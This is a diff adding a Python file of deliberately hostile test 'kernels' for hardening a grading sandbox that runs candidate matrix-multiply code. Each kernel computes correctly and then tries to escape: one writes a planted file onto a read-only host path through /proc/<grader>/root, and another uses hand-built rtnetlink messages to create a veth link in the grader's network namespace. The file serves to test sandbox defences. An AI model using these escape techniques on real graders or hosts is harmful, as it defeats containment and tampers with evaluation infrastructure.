@@ -1,0 +1,113 @@
+"""Known-bad kernels of the hostile review of the network namespace, the probe and the read-only host with CUDA
+(issue 29's fourth round): root in the sandbox (the grader's uid, as with CUDA) reaching the host past those layers.
+Competition signature FN(A, B, C, M, N, K); each computes honestly (the attack is elsewhere) and notes what it
+managed under $BAD_KERNEL_OUT_DIR, so a test can tell "refused" from "done unnoticed"."""
+
+import os
+import socket
+import struct
+
+_state: dict = {}
+
+
+def _out(name: str) -> str:
+    return os.path.join(os.environ.get("BAD_KERNEL_OUT_DIR", "/tmp"), name)
+
+
+def _note(name: str, text: str) -> None:
+    try:
+        with open(_out(name), "a") as f:
+            f.write(text + "\n")
+    except OSError:
+        pass
+
+
+def honest(A, B, C, M, N, K):
+    a, b = A[: M * K].view(K, M).t(), B[: K * N].view(N, K).t()
+    C[: M * N].view(N, M).t().copy_((a.float().unsqueeze(2) * b.float().unsqueeze(0)).sum(1).to(a.dtype))
+
+
+def _grader() -> int | None:
+    """The grader's pid: the keeper's parent (past bubblewrap), None where it is out of view (a PID namespace)."""
+    pid = os.getppid()
+    for _ in range(3):
+        try:
+            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+            if open(f"/proc/{pid}/comm").read().strip() != "bwrap":
+                return pid or None
+        except (OSError, ValueError, IndexError):
+            return None
+    return None
+
+
+def writes_through_proc_root(A, B, C, M, N, K):
+    """Computes honestly; at its first call writes $BAD_HOST_DIR/planted (a directory of the host's that the read-only
+    host makes read-only: a stand-in for a module on the baseline's Python path) twice: by its own path, and through
+    the grader's root as /proc shows it (``/proc/GRADER/root``: the grader's mount namespace, where nothing is
+    read-only; only ptrace rights over the grader stand in the way, which root holds while it keeps CAP_SYS_PTRACE).
+    Notes one line per way in ``proc_root``: "WAY written" or "WAY WHY"."""
+    honest(A, B, C, M, N, K)
+    if _state.get("proc_root"):
+        return
+    _state["proc_root"] = True
+    host, grader = os.environ["BAD_HOST_DIR"], _grader()
+    ways = [("direct", host)] + ([("proc_root", f"/proc/{grader}/root{host}")] if grader else [])
+    for way, where in ways:
+        try:
+            with open(os.path.join(where, "planted.py"), "w") as f:
+                f.write(f"# planted by the candidate ({way})\n")
+            _note("proc_root", f"{way} written")
+        except OSError as e:
+            _note("proc_root", f"{way} {e.strerror}")
+    if not grader:
+        _note("proc_root", "proc_root no grader in view")
+
+
+# rtnetlink, by hand (no pyroute2): a veth pair whose peer is created in another network namespace, named by a pid
+RTM_NEWLINK, NLM_F_REQUEST, NLM_F_ACK, NLM_F_EXCL, NLM_F_CREATE, NLMSG_ERROR = 16, 1, 4, 0x200, 0x400, 2
+IFLA_IFNAME, IFLA_LINKINFO, IFLA_NET_NS_PID, IFLA_INFO_KIND, IFLA_INFO_DATA, VETH_INFO_PEER = 3, 18, 19, 1, 2, 1
+
+
+def _attr(kind: int, data: bytes) -> bytes:
+    raw = struct.pack("=HH", 4 + len(data), kind) + data
+    return raw + b"\0" * (-len(raw) % 4)
+
+
+def veth_into(netns_pid: int, name: str, peer: str) -> int:
+    """Ask the kernel for a veth pair: ``name`` here, ``peer`` in the network namespace of ``netns_pid``. Returns
+    the netlink answer's errno (0: made)."""
+    ifinfo = struct.pack("=BxHiII", 0, 0, 0, 0, 0)
+    peer_msg = ifinfo + _attr(IFLA_IFNAME, peer.encode() + b"\0") + _attr(IFLA_NET_NS_PID, struct.pack("=I", netns_pid))
+    info = _attr(IFLA_INFO_KIND, b"veth\0") + _attr(IFLA_INFO_DATA, _attr(VETH_INFO_PEER, peer_msg))
+    body = ifinfo + _attr(IFLA_IFNAME, name.encode() + b"\0") + _attr(IFLA_LINKINFO, info)
+    flags = NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE | NLM_F_EXCL
+    msg = struct.pack("=IHHII", 16 + len(body), RTM_NEWLINK, flags, 1, 0) + body
+    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as s:  # NETLINK_ROUTE
+        s.settimeout(10.0)
+        s.sendto(msg, (0, 0))
+        answer = s.recv(65536)
+    kind = struct.unpack_from("=H", answer, 4)[0]
+    return -struct.unpack_from("=i", answer, 16)[0] if kind == NLMSG_ERROR else 0
+
+
+def joins_the_host_network(A, B, C, M, N, K):
+    """Computes honestly; at its first call, from its own network namespace, makes a veth pair whose other end is
+    created in the grader's network namespace (named by the grader's pid, ``IFLA_NET_NS_PID``): root in the initial
+    user namespace holds CAP_NET_ADMIN over every network namespace, its own being only the one it starts in. The
+    end in the host's namespace is $BAD_VETH (a link of the host's that the candidate made: it can as well take the
+    host's interfaces down, pull one into its own namespace, or bring a link to the host up). Notes in ``netlink``
+    "made NAME" or "refused WHY"."""
+    honest(A, B, C, M, N, K)
+    if _state.get("netlink"):
+        return
+    _state["netlink"] = True
+    grader, peer = _grader(), os.environ["BAD_VETH"]
+    if grader is None:
+        _note("netlink", "refused no grader in view")
+        return
+    try:
+        err = veth_into(grader, peer + "c", peer)
+    except OSError as e:
+        _note("netlink", f"refused {e.strerror or e}")
+        return
+    _note("netlink", f"made {peer}" if err == 0 else f"refused {os.strerror(err)}")
